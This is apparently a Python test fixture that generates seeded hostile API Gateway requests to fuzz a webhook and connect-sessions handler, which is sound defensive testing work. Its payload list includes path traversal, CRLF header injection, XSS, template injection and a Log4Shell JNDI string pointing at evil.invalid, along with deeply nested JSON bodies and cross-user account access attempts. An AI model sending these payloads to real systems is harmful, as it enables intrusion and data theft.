"""Requests of people who mean no good, as API Gateway would hand them to the function.

Generated from a seed, so that what was found is found again; a hundred thousand take seconds.
"""

import base64
import json
import re
from dataclasses import dataclass
from random import Random
from typing import Any

from local.sign import signed
from tests.openapi import routes
from tests.world import GMAIL, SECRET, SERVER

CANARY = "<hostile>"
"""Stands in most of what is sent: never in a log, and never in an answer."""

VICTIM = "ca_victim"
MAKES_SESSIONS = ("POST", "/users/{user_id}/connect-sessions")
"""Whom IAM lets in there may write: `test_hostile_connect` tries it."""

ROUTES = sorted(routes() - {MAKES_SESSIONS})
METHODS = ["GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "TRACE", "get", "", "G\r\nX"]
HEADERS = ["webhook-id", "webhook-timestamp", "webhook-signature"]
OTHERS = ["Host", "X-Forwarded-For", "X-HTTP-Method-Override", "If-None-Match", "Authorization"]
QUERY = ["connected_account_id", "connectedAccountId", "user_id", "status", "return_url", "state"]
NASTY = [
    "", " ", "0", "-1", "null", "\x00", "\r\n", "\r\nset-cookie: a=b", "1e309", "v1,", "%s%n{0}",
    "%0d%0alocation: //evil.invalid", "//evil.invalid", "https://evil.invalid", "?a=1&b=2", "#",
    "../../../../etc/passwd", "..", ".", "/", "%2e%2e%2f", "{{7*7}}", "${jndi:ldap://evil.invalid}",
    "<script>alert(1)</script>", "'\"`--", '\n{"level":"ERROR","message":"forged"}', "CATALOG",
    "\u2028", "\u202e", "\ud800", "\udfff\ud800", "😀", "é", "ca_1", "ca_2,ca_3", "user_1",
    "USER#user_1", "ACCOUNTS", "\\", SERVER,
]  # fmt: skip


@dataclass(frozen=True, slots=True)
class Hostile:
    """A proxy event, and whether it is signed with the secret."""

    event: dict[str, Any]
    authentic: bool


class Generator:
    """Makes requests; `now` is the handler's clock, `signs` whether some are signed rightly."""

    def __init__(self, seed: int, now: float, *, signs: bool) -> None:
        self._random = Random(seed)  # noqa: S311 - to be repeated, not to be secret
        self._now = int(now)
        self._signs = signs
        self._made = 0

    def request(self) -> Hostile:
        """Make one more."""
        dice = self._random
        self._made += 1
        method, resource = dice.choice(ROUTES)
        event: dict[str, Any] = {
            "httpMethod": method if dice.random() < 0.95 else dice.choice(METHODS),
            "resource": resource if dice.random() < 0.97 else self._text(),
            "path": self._text(),
            "multiValueHeaders": self._values([*HEADERS, *OTHERS]),
            "multiValueQueryStringParameters": self._query() if method == "GET" else None,
            "pathParameters": self._path(resource),
            "isBase64Encoded": dice.random() < 0.3,
            "body": None,
            "requestContext": {"identity": {"sourceIp": self._text()}},
        }
        if method == "GET":
            return Hostile(event, authentic=False)
        event["body"] = self._body()
        return self._delivery(event) if "webhooks" in resource else Hostile(event, authentic=False)

    def _delivery(self, event: dict[str, Any]) -> Hostile:
        """Sign a share of the deliveries rightly, and a share nearly."""
        kind = self._random.randrange(6)
        if kind > 2 or not isinstance(event["body"], str):
            return Hostile(event, authentic=False)
        webhook_id = self._random.choice(NASTY).replace(CANARY, "") or "msg"
        try:
            base64.b64decode(event["body"]) if event["isBase64Encoded"] else event["body"].encode()
            webhook_id.encode()
        except ValueError:
            return Hostile(event, authentic=False)
        event["headers"] = {"webhook-id": webhook_id}
        if kind == 0 and self._signs:
            # Right in every way, from here on nothing but the envelope is hostile.
            return Hostile(signed(event, secret=SECRET, now=self._now), authentic=True)
        late = signed(event, secret=SECRET, now=self._now - self._random.choice([301, 10**6]))
        wrong = signed(event, secret="of another", now=self._now)
        return Hostile(late if kind == 1 else wrong, authentic=False)

    def _text(self) -> str:
        dice = self._random
        kind = dice.randrange(20)
        if kind < 12:
            return dice.choice(NASTY) + dice.choice(["", CANARY, dice.choice(NASTY)])
        if kind < 16:
            return f"ca_{self._made}"
        if kind < 19:
            return "".join(chr(dice.randrange(1, 0x3000)) for _ in range(dice.randrange(1, 30)))
        return (CANARY + dice.choice("Aé\x00😀")) * dice.choice([100, 1000])

    def _values(self, names: list[str]) -> dict[str, list[str]] | None:
        dice = self._random
        if dice.random() < 0.1:
            return None
        chosen = dice.sample(names, dice.randrange(len(names)))
        some = [name if dice.random() < 0.8 else name.upper() for name in chosen]
        return {name: [self._text() for _ in range(dice.choice([1, 1, 1, 2, 5]))] for name in some}

    def _query(self) -> dict[str, list[str]] | None:
        """Name accounts; the victim's only for somebody else."""
        query = self._values(QUERY)
        if query is not None and self._random.random() < 0.1:
            query.pop("connectedAccountId", None)
            return query | {"connected_account_id": [VICTIM], "user_id": [self._other()]}
        return query

    def _other(self) -> str:
        return self._random.choice(["mallory", "Victim", "victim ", "victim,mallory", self._text()])

    def _path(self, resource: str) -> dict[str, str] | None:
        named = re.findall(r"{(\w+)}", resource)
        return {one: self._text() for one in named} if self._random.random() < 0.95 else None

    def _body(self) -> str | None:
        dice = self._random
        kind = dice.randrange(40)
        if kind == 0:
            return "[" * 20_000
        if kind == 1:
            return '{"type":"composio.connected_account.x","data":' + '{"a":' * 5_000
        if kind == 2:
            return "é" * 300_000 if dice.random() < 0.8 else None
        if kind < 8:
            return self._text()
        text = json.dumps(self._envelope(), ensure_ascii=dice.random() < 0.5)
        if dice.random() < 0.1:
            text = text[: dice.randrange(len(text) + 1)]
        encoded = base64.b64encode(text.encode(errors="replace")).decode()
        return encoded if dice.random() < 0.3 else text

    def _envelope(self) -> object:
        data = {
            "id": f"ca_{self._made}",
            "user_id": self._text(),
            "auth_config": {"id": GMAIL, "is_disabled": False},
            "status": "ACTIVE",
            "updated_at": "2026-01-01T00:00:00Z",
        }
        for _ in range(self._random.randrange(3)):
            data[self._random.choice(list(data))] = self._junk()
        kind = self._random.choice(["active", "expired", self._text()])
        envelope = {"id": self._text(), "type": f"composio.connected_account.{kind}", "data": data}
        if self._random.random() < 0.2:
            envelope[self._random.choice(list(envelope))] = self._junk()
        return envelope if self._random.random() < 0.95 else self._junk()

    def _junk(self) -> Any:
        dice = self._random
        text = self._text()
        odd: list[Any] = [
            None,
            True,
            5,
            -1,
            10**30,
            1e308,
            float("inf"),
            float("nan"),
            [],
            {},
            [[]],
        ]
        return dice.choice([*odd, text, [text], {"id": {}}, {"id": text}, "9999-12-31T23:59:59Z"])
